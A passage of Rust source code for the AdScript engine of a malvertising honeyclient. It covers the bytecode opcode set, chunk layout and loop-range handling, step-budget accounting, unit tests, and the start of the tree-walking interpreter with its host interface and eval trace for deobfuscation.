        assert!(!chunk.ops.iter().any(|op| matches!(op, Op::Dup)));
        assert!(!chunk.ops.iter().any(|op| matches!(op, Op::Pop)));
        assert!(chunk.ops.iter().any(|op| matches!(op, Op::IncName { .. })));
        // Expression positions keep the result.
        let kept = compile("y = (x = 1); z = [x++];");
        assert!(kept.ops.iter().any(|op| matches!(op, Op::Dup)));
        assert!(!kept.ops.iter().any(|op| matches!(op, Op::IncName { .. })));
    }

    #[test]
    fn constant_rhs_fuses_into_bin_const() {
        let chunk = compile("out = x % 7;");
        assert!(chunk
            .ops
            .iter()
            .any(|op| matches!(op, Op::BinConst { op: BinOp::Mod, .. })));
        assert!(!chunk.ops.iter().any(|op| matches!(op, Op::Bin(_))));
    }

    #[test]
    fn charges_fold_into_pre_operands_in_hot_loops() {
        // A property-heavy loop body should carry its charges on the ops
        // themselves, not as standalone Charge dispatches.
        let chunk =
            compile("var o = {a: 1, c: 0}; for (var r = 0; r < 10; r++) { o.c = o.c + o.a; }");
        let body = chunk.ranges[0];
        let in_body = chunk.ops[body.start as usize..body.end as usize]
            .iter()
            .filter(|op| matches!(op, Op::Charge(_)))
            .count();
        assert_eq!(
            in_body, 0,
            "expected folded charges only inside the loop body: {:?}",
            chunk.ops
        );
    }
}
