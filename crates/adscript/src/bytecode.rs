//! The AdScript bytecode format.
//!
//! A [`Chunk`] is the compact, executable form of one program body or one
//! function body, produced by [`crate::compile`] and executed by the VM in
//! `crate::vm`. Chunks are immutable and `Send + Sync`, so one compilation
//! (cached in [`crate::CompiledScript`] or in a function definition's
//! `code` slot) is shared by every crawler worker.
//!
//! ## Design
//!
//! The VM is a stack machine that *shares the tree-walk interpreter's
//! runtime* — the same environment chain, heap, host interface, and helper
//! methods — so semantic parity is by construction for everything the two
//! engines share, and the bytecode only replaces the dispatch layer:
//!
//! * Hot statements and expressions lower to dedicated ops with
//!   compile-time-resolved operands (constant indices, interned name
//!   indices, local slot coordinates, inline-cache slots).
//! * Hot op *sequences* lower to fused superinstructions:
//!   [`Op::GetPropName`]/[`Op::SetPropName`] (identifier load + property
//!   access), [`Op::IncName`] (statement-form `name++`), and
//!   [`Op::BinConst`] (binary operator whose right operand folded to a
//!   constant). Each fused op performs the exact sub-op sequence of its
//!   unfused expansion, including the budget charges between the sub-ops.
//! * Rare, semantically-intricate constructs (`try`/`switch`/`for..in`
//!   statements, `new` expressions) lower to [`Op::TreeStmt`] /
//!   [`Op::TreeExpr`], which execute the retained tree-walk code for that
//!   exact subtree. The fallback is not a different semantics — it *is* the
//!   oracle's code path.
//! * Step-budget accounting is exact: the compiler accumulates the step
//!   charges the tree-walk engine would make and attaches them as late as
//!   the merging rule allows — either as a standalone [`Op::Charge`], or
//!   folded into the `pre` operand that every fallible/effectful op
//!   carries (charged first thing, before the op does anything). Merging
//!   is only ever across infallible, effect-free ops (constant pushes,
//!   pure stack shuffles, pure operators), so a budget death under the
//!   merged charge is observably identical to the tree-walk dying at
//!   whichever sequential step would have failed: same final budget
//!   (zero), same error, no visible effect reordered across the merge. A
//!   jump *target* never has a charge folded past it — the compiler emits
//!   a standalone flush before binding any label, so no path entering at
//!   the label can observe a charge that belongs to the fall-through path.
//!
//! ## Control-flow escape table
//!
//! `break`/`continue` can escape a *called function* in this dialect (the
//! parser accepts them anywhere, and the tree-walk's loops catch the
//! resulting flow signal dynamically wherever it surfaces). Compiled loops
//! therefore record their body op-ranges in [`Chunk::ranges`]; when any op
//! inside such a range returns a break/continue signal — an explicit
//! statement compiles to a direct jump, so in practice this is a signal
//! leaking out of a call or a tree-walked subtree — the VM redirects to the
//! recorded target exactly like the tree-walk's loop arm would.

use crate::ast::{BinOp, Expr, FnDef, Name, Stmt};
use std::sync::Arc;

/// Sentinel for "no inline cache attached to this op".
pub const NO_IC: u32 = u32::MAX;

/// One bytecode instruction. Operands index into the owning [`Chunk`]'s
/// side tables; jump targets are absolute op indices.
///
/// The `pre` operand carried by fallible/effectful ops is the merged step
/// charge accumulated since the previous charge point; it is deducted
/// before the op does anything else, exactly as a standalone
/// [`Op::Charge`] immediately before the op would be.
#[derive(Debug, Clone, Copy, PartialEq)]
pub enum Op {
    /// Deduct `n` steps from the budget (the merged form of `n` tree-walk
    /// `step()` calls); on exhaustion the budget pins to zero and the run
    /// fails, exactly like the `n`-th sequential step would.
    Charge(u32),
    /// Push `consts[i]`.
    Const(u32),
    /// Push `true`.
    True,
    /// Push `false`.
    False,
    /// Push `null`.
    Null,
    /// Push `undefined`.
    Undef,
    /// Push the current `this` binding (environment-chain lookup).
    This,
    /// Pop and discard.
    Pop,
    /// Duplicate the top of stack.
    Dup,
    /// Swap the two topmost values.
    Swap,
    /// Unconditional jump.
    Jump {
        /// Target op index.
        t: u32,
        /// Pre-charge.
        pre: u32,
    },
    /// Pop; jump when falsy.
    JumpIfFalse {
        /// Target op index.
        t: u32,
        /// Pre-charge.
        pre: u32,
    },
    /// Pop; jump when truthy.
    JumpIfTrue {
        /// Target op index.
        t: u32,
        /// Pre-charge.
        pre: u32,
    },
    /// `||`: keep the value and jump when truthy, else pop and fall through.
    JumpTruthyKeep {
        /// Target op index.
        t: u32,
        /// Pre-charge.
        pre: u32,
    },
    /// `&&`: keep the value and jump when falsy, else pop and fall through.
    JumpFalsyKeep {
        /// Target op index.
        t: u32,
        /// Pre-charge.
        pre: u32,
    },
    /// Push a resolver-bound local (`depth` parent hops, then `slot`);
    /// falls back to the by-name walk when the slot is unwritten.
    LoadLocal {
        /// Parent hops from the executing environment.
        depth: u32,
        /// Slot index in the declaring scope.
        slot: u32,
        /// Name-table index for the fallback walk and error messages.
        name: u32,
        /// Pre-charge.
        pre: u32,
    },
    /// Pop into a resolver-bound local (same fallback as the tree-walk).
    StoreLocal {
        /// Parent hops from the executing environment.
        depth: u32,
        /// Slot index in the declaring scope.
        slot: u32,
        /// Name-table index for the fallback walk.
        name: u32,
        /// Pre-charge.
        pre: u32,
    },
    /// Push the binding named `names[name]` (environment-chain walk;
    /// throws "not defined" when absent). `ic` caches the global-map entry
    /// index in global chunks ([`NO_IC`] elsewhere).
    LoadName {
        /// Name-table index.
        name: u32,
        /// Inline-cache slot, or [`NO_IC`].
        ic: u32,
        /// Pre-charge.
        pre: u32,
    },
    /// Pop into the binding named `names[name]` (innermost match, else a
    /// fresh global — non-strict assignment).
    StoreName {
        /// Name-table index.
        name: u32,
        /// Inline-cache slot, or [`NO_IC`].
        ic: u32,
        /// Pre-charge.
        pre: u32,
    },
    /// Pop and declare into the executing scope's slot `i` (`var` whose
    /// name the chunk's scope lays out).
    DeclSlot(u32),
    /// Pop and declare `names[i]` by name in the executing environment
    /// (`var` at the global scope).
    DeclName(u32),
    /// Hoist `fns[i]`: declare its name in the executing environment bound
    /// to a fresh closure over that environment. Uncharged, like the
    /// tree-walk's hoisting pass.
    DeclFn(u32),
    /// Push a closure over `fns[i]` and the executing environment.
    Closure(u32),
    /// Pop an object, push `object.names[name]` (property read; inline
    /// cache valid for plain objects).
    GetProp {
        /// Name-table index of the property.
        name: u32,
        /// Inline-cache slot, or [`NO_IC`].
        ic: u32,
        /// Pre-charge.
        pre: u32,
    },
    /// Pop an object, then the value; store `object.names[name] = value`.
    SetProp {
        /// Name-table index of the property.
        name: u32,
        /// Inline-cache slot, or [`NO_IC`].
        ic: u32,
        /// Pre-charge.
        pre: u32,
    },
    /// Fused `LoadName` + `GetProp` for the ubiquitous `ident.prop` read:
    /// resolves the identifier (global inline cache, by-name fallback),
    /// then reads the property (property inline cache), pushing the
    /// result. Exactly equivalent to the two-op sequence, including the
    /// throw points.
    GetPropName {
        /// Name-table index of the object identifier.
        name: u32,
        /// Identifier inline-cache slot, or [`NO_IC`].
        name_ic: u32,
        /// Name-table index of the property.
        prop: u32,
        /// Property inline-cache slot, or [`NO_IC`].
        prop_ic: u32,
        /// Pre-charge.
        pre: u32,
    },
    /// Fused `LoadName` + `SetProp` for `ident.prop = value`: pops the
    /// value, resolves the identifier, stores the property. Exactly
    /// equivalent to the two-op sequence (the compiler `Dup`s the value
    /// beforehand when the expression result is needed).
    SetPropName {
        /// Name-table index of the object identifier.
        name: u32,
        /// Identifier inline-cache slot, or [`NO_IC`].
        name_ic: u32,
        /// Name-table index of the property.
        prop: u32,
        /// Property inline-cache slot, or [`NO_IC`].
        prop_ic: u32,
        /// Pre-charge.
        pre: u32,
    },
    /// Fused statement-form `name++`/`name--` (result discarded): loads
    /// the binding, converts to number, adds `delta`, stores back. Exactly
    /// the `LoadName`/`IncDec`/`StoreName` sequence minus the dead result
    /// push.
    IncName {
        /// Name-table index.
        name: u32,
        /// Load-side inline-cache slot, or [`NO_IC`].
        load_ic: u32,
        /// Store-side inline-cache slot, or [`NO_IC`].
        store_ic: u32,
        /// `+1` or `-1`.
        delta: i8,
        /// Pre-charge.
        pre: u32,
    },
    /// Pop an index, then an object; push `object[index]`.
    GetIndex {
        /// Pre-charge.
        pre: u32,
    },
    /// Pop an index, an object, then a value; store `object[index] = value`.
    SetIndex {
        /// Pre-charge.
        pre: u32,
    },
    /// Pop `n` elements (in push order) into a fresh array; push it.
    MakeArray(u32),
    /// Push a fresh empty plain object.
    MakeObject,
    /// Pop a value; insert it under `names[i]` into the object left on top
    /// of the stack (object-literal construction; the object stays pushed).
    ObjInsert(u32),
    /// Pop an object; push the object back, then `object.names[name]` — the
    /// receiver-preserving read used for method calls.
    GetMethod {
        /// Name-table index of the method.
        name: u32,
        /// Inline-cache slot, or [`NO_IC`].
        ic: u32,
        /// Pre-charge.
        pre: u32,
    },
    /// Pop an index, then an object; push the object back, then
    /// `object[index]` (computed method lookup).
    GetMethodIndex {
        /// Pre-charge.
        pre: u32,
    },
    /// Pop `n` arguments and a callee; push the call result. Detects direct
    /// `eval` like the tree-walk does (after argument evaluation).
    Call {
        /// Argument count.
        argc: u32,
        /// Pre-charge.
        pre: u32,
    },
    /// Pop `n` arguments, a callee, and a receiver; push the call result.
    /// String/number receivers are forwarded as the synthetic first
    /// argument the stdlib dispatcher expects.
    CallMethod {
        /// Argument count.
        argc: u32,
        /// Pre-charge.
        pre: u32,
    },
    /// Pop rhs, then lhs; push the binary-operator result. Infallible and
    /// effect-free, so charges merge across it.
    Bin(BinOp),
    /// Fused `Const` + `Bin`: pop lhs, push `lhs op consts[idx]`. Same
    /// merging rule as [`Op::Bin`].
    BinConst {
        /// Operator.
        op: BinOp,
        /// Constant-pool index of the right operand.
        idx: u32,
    },
    /// Pop; push `-ToNumber(v)`.
    UnNeg,
    /// Pop; push `+ToNumber(v)`.
    UnPos,
    /// Pop; push `!truthy(v)`.
    UnNot,
    /// Pop; push `~ToInt32(v)`.
    UnBitNot,
    /// Pop; push the `typeof` string of the value.
    TypeofVal,
    /// `typeof identifier`: resolves `names[i]` without throwing; pushes
    /// `"undefined"` uncharged when absent, else charges one step (the
    /// operand evaluation the tree-walk performs) and pushes the type.
    TypeofName(u32),
    /// Pop the old value; push the `++`/`--` expression result, then the
    /// new numeric value (which a following store consumes).
    IncDec {
        /// `+1` or `-1`.
        delta: i8,
        /// Prefix (`true`) pushes the new value as the result, postfix the
        /// old one.
        prefix: bool,
    },
    /// Pop and return from the chunk.
    Ret {
        /// Pre-charge.
        pre: u32,
    },
    /// Pop and raise it as a script exception.
    ThrowOp,
    /// Raise a break signal (`break` outside any loop in this chunk).
    FlowBreak,
    /// Raise a continue signal (`continue` outside any loop in this chunk).
    FlowContinue,
    /// Execute `tree_stmts[i]` with the retained tree-walk engine. Budget
    /// charges happen inside, exactly as the oracle engine makes them.
    TreeStmt(u32),
    /// Evaluate `tree_exprs[i]` with the tree-walk engine; push the result.
    TreeExpr(u32),
}

impl Op {
    /// The step charge this op deducts up front: the standalone
    /// [`Op::Charge`] amount or the folded `pre` operand. Used by tests
    /// and diagnostics to audit charge-accounting invariance.
    pub fn pre_charge(&self) -> u32 {
        match *self {
            Op::Charge(n) => n,
            Op::Jump { pre, .. }
            | Op::JumpIfFalse { pre, .. }
            | Op::JumpIfTrue { pre, .. }
            | Op::JumpTruthyKeep { pre, .. }
            | Op::JumpFalsyKeep { pre, .. }
            | Op::LoadLocal { pre, .. }
            | Op::StoreLocal { pre, .. }
            | Op::LoadName { pre, .. }
            | Op::StoreName { pre, .. }
            | Op::GetProp { pre, .. }
            | Op::SetProp { pre, .. }
            | Op::GetPropName { pre, .. }
            | Op::SetPropName { pre, .. }
            | Op::IncName { pre, .. }
            | Op::GetIndex { pre }
            | Op::SetIndex { pre }
            | Op::GetMethod { pre, .. }
            | Op::GetMethodIndex { pre }
            | Op::Call { pre, .. }
            | Op::CallMethod { pre, .. }
            | Op::Ret { pre } => pre,
            _ => 0,
        }
    }
}

/// A compile-time constant. Materialized once per interpreter into runtime
/// [`crate::Value`]s (the `Rc`-backed string values are per-thread).
#[derive(Debug, Clone, PartialEq)]
pub enum CVal {
    /// Numeric constant (possibly the result of compile-time folding of a
    /// pure-literal arithmetic subtree).
    Num(f64),
    /// String constant.
    Str(Arc<str>),
}

/// The op-range of one compiled loop body, used to redirect break/continue
/// signals that surface *dynamically* inside the body (leaked out of a call
/// or a tree-walked subtree) to the loop's targets.
#[derive(Debug, Clone, Copy, PartialEq)]
pub struct LoopRange {
    /// First op of the body region (inclusive).
    pub start: u32,
    /// One past the last op of the body region.
    pub end: u32,
    /// Jump target on break.
    pub brk: u32,
    /// Jump target on continue (condition or update evaluation).
    pub cont: u32,
}

/// One compiled body: the ops plus every side table they index.
#[derive(Debug, Default)]
pub struct Chunk {
    /// The instruction stream.
    pub ops: Vec<Op>,
    /// Constant pool.
    pub consts: Vec<CVal>,
    /// Interned names referenced by name-addressed ops.
    pub names: Vec<Name>,
    /// Function definitions for `Closure`/`DeclFn`.
    pub fns: Vec<Arc<FnDef>>,
    /// Statements executed by `TreeStmt`.
    pub tree_stmts: Vec<Stmt>,
    /// Expressions evaluated by `TreeExpr`.
    pub tree_exprs: Vec<Expr>,
    /// Loop-body ranges for dynamic break/continue redirection.
    pub ranges: Vec<LoopRange>,
    /// Number of inline-cache slots ops in this chunk reference.
    pub ic_count: u32,
    /// Whether this is a program (global-scope) chunk — executes in the
    /// root environment, enabling global-binding inline caches.
    pub global: bool,
}

impl Chunk {
    /// The innermost loop body containing the op at `ip`, if any: where a
    /// dynamically-surfacing break/continue lands. Ranges are properly
    /// nested, so the innermost match is the one with the greatest start.
    pub fn loop_at(&self, ip: u32) -> Option<&LoopRange> {
        self.ranges
            .iter()
            .filter(|r| r.start <= ip && ip < r.end)
            .max_by_key(|r| r.start)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn loop_at_picks_the_innermost_range() {
        let chunk = Chunk {
            ranges: vec![
                LoopRange {
                    start: 2,
                    end: 20,
                    brk: 21,
                    cont: 1,
                },
                LoopRange {
                    start: 5,
                    end: 10,
                    brk: 11,
                    cont: 4,
                },
            ],
            ..Chunk::default()
        };
        assert_eq!(chunk.loop_at(7).unwrap().brk, 11);
        assert_eq!(chunk.loop_at(12).unwrap().brk, 21);
        assert!(chunk.loop_at(0).is_none());
        assert!(chunk.loop_at(20).is_none());
    }

    #[test]
    fn pre_charge_reads_both_standalone_and_folded_charges() {
        assert_eq!(Op::Charge(4).pre_charge(), 4);
        assert_eq!(
            Op::LoadName {
                name: 0,
                ic: NO_IC,
                pre: 3
            }
            .pre_charge(),
            3
        );
        assert_eq!(Op::Pop.pre_charge(), 0);
    }
}
