//! The AdScript tree-walking evaluator.
//!
//! ## Scoping model
//!
//! Faithful to pre-ES6 JavaScript `var` semantics: scopes are *function*
//! scopes, not block scopes. `var` declares in the innermost function scope;
//! blocks do not create scopes; assignment to an undeclared name creates a
//! global (non-strict behaviour — ad scripts rely on it). Function
//! declarations are hoisted to the top of their body. `catch` introduces a
//! one-binding scope for its parameter.
//!
//! ## Host interface
//!
//! The embedder implements [`Host`]: native function calls and property
//! access on *native objects* (heap objects with a tag, e.g. `document`)
//! route through it. The `malvert-browser` crate uses this to implement the
//! DOM/BOM surface and record behaviour events.

use crate::ast::*;
use crate::cache::{CompiledScript, ScriptCache};
use crate::heap::NameMap;
use crate::stdlib;
use crate::value::{number_to_string, Heap, ObjId, ObjKind, Value};
use crate::{ScriptEngine, ScriptError};
use malvert_types::rng::DetRng;
use std::collections::HashMap;
use std::sync::Arc;

/// Execution limits: the honeyclient's defence against looping creatives.
#[derive(Debug, Clone, Copy)]
pub struct Limits {
    /// Maximum number of evaluation steps (statements + expression nodes).
    pub max_steps: u64,
    /// Maximum script-function call depth.
    pub max_depth: usize,
}

impl Default for Limits {
    fn default() -> Self {
        Limits {
            max_steps: 2_000_000,
            max_depth: 200,
        }
    }
}

/// Embedder interface for native functions and native-object properties.
pub trait Host {
    /// Invokes the native function `name`. `this` is the receiver for method
    /// calls on native objects.
    fn call(
        &mut self,
        heap: &mut Heap,
        name: &str,
        this: Option<ObjId>,
        args: &[Value],
    ) -> Result<Value, String>;

    /// Property read on a native object with tag `tag`. Returning `None`
    /// falls back to the object's stored properties.
    fn get_prop(&mut self, heap: &mut Heap, tag: &str, obj: ObjId, key: &str) -> Option<Value> {
        let _ = (heap, tag, obj, key);
        None
    }

    /// Property write on a native object. Returning `true` means the host
    /// handled it; `false` stores it as a plain property.
    fn set_prop(
        &mut self,
        heap: &mut Heap,
        tag: &str,
        obj: ObjId,
        key: &str,
        value: &Value,
    ) -> bool {
        let _ = (heap, tag, obj, key, value);
        false
    }

    /// Constructor call `new Name(...)` for host types (`Image`, `Date`, …).
    /// Returning `None` produces a plain empty object.
    fn construct(&mut self, heap: &mut Heap, name: &str, args: &[Value]) -> Option<Value> {
        let _ = (heap, name, args);
        None
    }
}

/// A host that provides nothing — used by tests and pure-computation runs.
#[derive(Debug, Default, Clone, Copy)]
pub struct NoHost;

impl Host for NoHost {
    fn call(
        &mut self,
        _heap: &mut Heap,
        name: &str,
        _this: Option<ObjId>,
        _args: &[Value],
    ) -> Result<Value, String> {
        Err(format!("{name} is not defined"))
    }
}

/// Control-flow signals during evaluation (shared with the bytecode VM).
pub(crate) enum Flow {
    /// `return` — caught by function-call frames (and chunk boundaries).
    Return(Value),
    /// `break` — caught by the innermost loop/switch.
    Break,
    /// `continue` — caught by the innermost loop.
    Continue,
    /// A thrown script value — caught by `try`.
    Throw(Value),
    /// A non-catchable engine error (budget exhaustion, bad targets).
    Fatal(ScriptError),
}

pub(crate) type EvalResult = Result<Value, Flow>;
type ExecResult = Result<(), Flow>;

/// One scope on the environment chain.
///
/// Names statically known to the scope (`scope.names`, filled by the
/// resolver for function scopes) live in `slots`, indexed in `names` order;
/// `None` means the binding does not exist yet (its `var` has not executed)
/// — exactly "key absent" in a by-name map. Everything else (`this`,
/// eval-introduced names, global and `catch` bindings) lives in `extra`.
/// Invariant: a name in `scope.names` is never stored in that env's
/// `extra`, so slot indexing and by-name probing agree on every lookup.
pub(crate) struct Env {
    pub(crate) slots: Vec<Option<Value>>,
    pub(crate) scope: Arc<ScopeInfo>,
    pub(crate) extra: NameMap,
    pub(crate) parent: Option<usize>,
}

thread_local! {
    /// The stdlib globals and their backing heap objects are identical for
    /// every interpreter; build them once per thread and stamp copies, so
    /// per-visit interpreter construction stops re-running the installer.
    static STDLIB_TEMPLATE: (Heap, NameMap) = {
        let mut heap = Heap::new();
        let mut globals = NameMap::new();
        stdlib::install_globals(&mut heap, &mut globals);
        (heap, globals)
    };
}

/// The interpreter: owns the heap, the environments, and the host.
pub struct Interpreter<H: Host> {
    /// The object heap (public so embedders can inspect results).
    pub heap: Heap,
    /// The embedder's host implementation.
    pub host: H,
    pub(crate) envs: Vec<Env>,
    limits: Limits,
    pub(crate) steps_left: u64,
    depth: usize,
    rng: DetRng,
    script_cache: Option<ScriptCache>,
    units: u64,
    empty_scope: Arc<ScopeInfo>,
    engine: ScriptEngine,
    /// Bytecode ops executed since the last stats flush (VM engine only).
    pub(crate) dispatches: u64,
    /// Inline-cache hits since interpreter construction.
    pub(crate) ic_hits: u64,
    /// Inline-cache misses since interpreter construction.
    pub(crate) ic_misses: u64,
    /// Inline-cache hits served by a hidden-class shape check (a subset of
    /// `ic_hits`: property reads/writes that matched on layout rather than
    /// receiver identity).
    pub(crate) shape_hits: u64,
    /// Object-layout growth events the VM performed (property appends
    /// through write ops and object literals — shape transitions).
    pub(crate) shape_transitions: u64,
    /// Counter values already flushed into the attached script cache's
    /// stats, so each flush records only the delta.
    flushed_vm: (u64, u64, u64, u64, u64),
    /// Per-interpreter chunk runtime state — materialized constant pools
    /// and persistent inline-cache slots — keyed by chunk address (the
    /// `Arc<Chunk>` keepalive inside pins the address).
    pub(crate) vm_chunks: HashMap<usize, crate::vm::ChunkState>,
    /// Recycled operand stacks, so call frames reuse buffers instead of
    /// allocating one per activation.
    pub(crate) vm_stacks: Vec<Vec<crate::value::Word>>,
    /// Side arena for VM stack words that cannot live inline (strings,
    /// closures, natives). Each `run_chunk` activation records a watermark
    /// on entry and truncates back to it on exit; within an activation the
    /// common LIFO patterns reclaim eagerly (see `take_value`), so growth
    /// between watermarks is bounded by the step budget like the heap.
    pub(crate) vm_boxed: Vec<Value>,
    /// Bumped every time a closure value is constructed. `call_function`
    /// snapshots it: if no closure appeared during a call, no one can
    /// reference the frames the call pushed, and they are recycled into
    /// `env_pool` instead of accreting on `envs`.
    pub(crate) capture_stamp: u64,
    /// Recycled environment frames (bounded), reused by `push_fn_env` /
    /// `push_env` so the IIFE-wrapper-heavy workload stops allocating a
    /// fresh slot vector and `extra` map per call.
    env_pool: Vec<Env>,
    /// Every source string that passed through `eval`, in execution order —
    /// the honeyclient's deobfuscation trace (running layered obfuscation
    /// leaves the decoded payload here, the way Wepawet unwrapped packed
    /// scripts by instrumenting `eval`).
    pub eval_trace: Vec<String>,
}

impl<H: Host> Interpreter<H> {
    /// Creates an interpreter with the given host, limits, and RNG seed
    /// (the seed feeds `Math.random` deterministically).
    pub fn new(host: H, limits: Limits, seed: u64) -> Self {
        let (heap, globals) = STDLIB_TEMPLATE.with(|t| t.clone());
        Interpreter {
            heap,
            host,
            envs: vec![Env {
                slots: Vec::new(),
                scope: Arc::new(ScopeInfo::default()),
                extra: globals,
                parent: None,
            }],
            limits,
            steps_left: limits.max_steps,
            depth: 0,
            rng: DetRng::new(seed),
            script_cache: None,
            units: 0,
            empty_scope: Arc::new(ScopeInfo::default()),
            engine: ScriptEngine::default(),
            dispatches: 0,
            ic_hits: 0,
            ic_misses: 0,
            shape_hits: 0,
            shape_transitions: 0,
            flushed_vm: (0, 0, 0, 0, 0),
            vm_chunks: HashMap::new(),
            vm_stacks: Vec::new(),
            vm_boxed: Vec::new(),
            capture_stamp: 0,
            env_pool: Vec::new(),
            eval_trace: Vec::new(),
        }
    }

    /// Selects the execution engine: the bytecode VM (default) or the
    /// retained tree-walk oracle.
    pub fn set_engine(&mut self, engine: ScriptEngine) {
        self.engine = engine;
    }

    /// The engine this interpreter executes with.
    pub fn engine(&self) -> ScriptEngine {
        self.engine
    }

    /// Cumulative VM counters: `(bytecode dispatches, inline-cache hits,
    /// inline-cache misses, shape hits, shape transitions)`. All zero under
    /// the tree-walk engine.
    pub fn vm_counters(&self) -> (u64, u64, u64, u64, u64) {
        (
            self.dispatches,
            self.ic_hits,
            self.ic_misses,
            self.shape_hits,
            self.shape_transitions,
        )
    }

    /// Records the VM-counter delta since the last flush into the attached
    /// script cache's shared stats.
    fn flush_vm_stats(&mut self) {
        if let Some(cache) = &self.script_cache {
            let (d0, h0, m0, s0, t0) = self.flushed_vm;
            cache.stats().record_vm(
                self.dispatches - d0,
                self.ic_hits - h0,
                self.ic_misses - m0,
                self.shape_hits - s0,
                self.shape_transitions - t0,
            );
            self.flushed_vm = self.vm_counters();
        }
    }

    /// Routes this interpreter's compiles (`run` and the `eval` path)
    /// through `cache`, so repeated sources skip the parser.
    pub fn set_script_cache(&mut self, cache: ScriptCache) {
        self.script_cache = Some(cache);
    }

    /// Compile units executed so far: one per `run`/`run_program` plus one
    /// per successfully-compiled `eval`. A pure function of the scripts
    /// executed — unlike the cache hit/miss split, which depends on
    /// scheduling.
    pub fn script_units(&self) -> u64 {
        self.units
    }

    /// Defines a global variable before running scripts (used by the browser
    /// to install `window`, `document`, `navigator`, …).
    pub fn set_global(&mut self, name: &str, value: Value) {
        self.envs[0].extra.insert(name, value);
    }

    /// Reads a global variable.
    pub fn get_global(&self, name: &str) -> Option<&Value> {
        self.envs[0].extra.get(name)
    }

    /// Remaining step budget (useful for spreading a budget over several
    /// scripts on one page).
    pub fn steps_left(&self) -> u64 {
        self.steps_left
    }

    /// Parses and executes `src` in the global scope — a thin
    /// compile-then-run wrapper over [`Interpreter::run_program`],
    /// consulting the script cache when one is attached.
    pub fn run(&mut self, src: &str) -> Result<Value, ScriptError> {
        let script = match &self.script_cache {
            Some(cache) => cache.compile(src)?,
            None => CompiledScript::compile(src)?,
        };
        self.run_program(&script)
    }

    /// Executes an already-compiled script in the global scope, with the
    /// selected engine.
    pub fn run_program(&mut self, script: &CompiledScript) -> Result<Value, ScriptError> {
        self.units += 1;
        let result = match self.engine {
            ScriptEngine::TreeWalk => self.run_body(&script.program().body, 0),
            ScriptEngine::Vm => {
                let chunk = script.chunk();
                match self.run_chunk(&chunk, 0) {
                    Ok(Some(v)) => Ok(v),
                    Ok(None) => Ok(Value::Undefined),
                    Err(f) => Err(self.flow_to_error(f)),
                }
            }
        };
        self.flush_vm_stats();
        result
    }

    /// Calls a function value (used by the browser to fire queued
    /// `setTimeout` callbacks and event handlers).
    pub fn call_value(
        &mut self,
        f: &Value,
        this: Option<ObjId>,
        args: &[Value],
    ) -> Result<Value, ScriptError> {
        let result = match self.call_function(f.clone(), this, args.to_vec()) {
            Ok(v) => Ok(v),
            Err(Flow::Throw(v)) => Err(ScriptError::Runtime(format!(
                "uncaught exception: {}",
                self.display_value(&v)
            ))),
            Err(Flow::Fatal(e)) => Err(e),
            Err(_) => Err(ScriptError::Runtime("illegal control flow".into())),
        };
        self.flush_vm_stats();
        result
    }

    fn run_body(&mut self, body: &[Stmt], env: usize) -> Result<Value, ScriptError> {
        self.hoist_functions(body, env)
            .map_err(|f| self.flow_to_error(f))?;
        let mut last = Value::Undefined;
        for stmt in body {
            match self.exec(stmt, env) {
                Ok(()) => {
                    if let Stmt::Expr(_) = stmt {
                        // Expression-statement value is not tracked per-stmt;
                        // re-evaluating would double side effects, so `last`
                        // only reflects explicit `return` at top level.
                        last = Value::Undefined;
                    }
                }
                Err(Flow::Return(v)) => return Ok(v),
                Err(f) => return Err(self.flow_to_error(f)),
            }
        }
        Ok(last)
    }

    pub(crate) fn flow_to_error(&mut self, f: Flow) -> ScriptError {
        match f {
            Flow::Fatal(e) => e,
            Flow::Throw(v) => {
                let msg = self.display_value(&v);
                ScriptError::Runtime(format!("uncaught exception: {msg}"))
            }
            Flow::Break | Flow::Continue => {
                ScriptError::Runtime("break/continue outside loop".into())
            }
            Flow::Return(_) => ScriptError::Runtime("return outside function".into()),
        }
    }

    fn step(&mut self) -> ExecResult {
        if self.steps_left == 0 {
            return Err(Flow::Fatal(ScriptError::BudgetExhausted));
        }
        self.steps_left -= 1;
        Ok(())
    }

    fn hoist_functions(&mut self, body: &[Stmt], env: usize) -> ExecResult {
        for stmt in body {
            if let Stmt::FnDecl(def) = stmt {
                let name = def.name.clone().expect("declaration has a name");
                let value = Value::Fn {
                    def: def.clone(),
                    env,
                };
                self.capture_stamp += 1;
                self.declare(env, &name, value);
            }
        }
        Ok(())
    }

    // ----- statements ------------------------------------------------------

    pub(crate) fn exec(&mut self, stmt: &Stmt, env: usize) -> ExecResult {
        self.step()?;
        match stmt {
            Stmt::Empty | Stmt::FnDecl(_) => Ok(()),
            Stmt::Var(decls) => {
                for (name, init) in decls {
                    let value = match init {
                        Some(e) => self.eval(e, env)?,
                        None => Value::Undefined,
                    };
                    self.declare(env, name, value);
                }
                Ok(())
            }
            Stmt::Expr(e) => {
                self.eval(e, env)?;
                Ok(())
            }
            Stmt::Block(body) => {
                self.hoist_functions(body, env)?;
                for s in body {
                    self.exec(s, env)?;
                }
                Ok(())
            }
            Stmt::If { cond, then, alt } => {
                if self.eval(cond, env)?.truthy() {
                    self.exec(then, env)
                } else if let Some(alt) = alt {
                    self.exec(alt, env)
                } else {
                    Ok(())
                }
            }
            Stmt::While { cond, body } => {
                while self.eval(cond, env)?.truthy() {
                    match self.exec(body, env) {
                        Ok(()) | Err(Flow::Continue) => {}
                        Err(Flow::Break) => break,
                        Err(f) => return Err(f),
                    }
                }
                Ok(())
            }
            Stmt::DoWhile { body, cond } => {
                loop {
                    match self.exec(body, env) {
                        Ok(()) | Err(Flow::Continue) => {}
                        Err(Flow::Break) => break,
                        Err(f) => return Err(f),
                    }
                    if !self.eval(cond, env)?.truthy() {
                        break;
                    }
                }
                Ok(())
            }
            Stmt::For {
                init,
                cond,
                update,
                body,
            } => {
                if let Some(init) = init {
                    self.exec(init, env)?;
                }
                loop {
                    if let Some(cond) = cond {
                        if !self.eval(cond, env)?.truthy() {
                            break;
                        }
                    }
                    match self.exec(body, env) {
                        Ok(()) | Err(Flow::Continue) => {}
                        Err(Flow::Break) => break,
                        Err(f) => return Err(f),
                    }
                    if let Some(update) = update {
                        self.eval(update, env)?;
                    }
                }
                Ok(())
            }
            Stmt::Switch { disc, cases } => {
                let value = self.eval(disc, env)?;
                // Find the matching case (strict equality), else `default`.
                let mut start = None;
                for (i, (test, _)) in cases.iter().enumerate() {
                    if let Some(test) = test {
                        let t = self.eval(test, env)?;
                        if value.strict_eq(&t) {
                            start = Some(i);
                            break;
                        }
                    }
                }
                if start.is_none() {
                    start = cases.iter().position(|(test, _)| test.is_none());
                }
                if let Some(start) = start {
                    // Fall through subsequent cases until `break`.
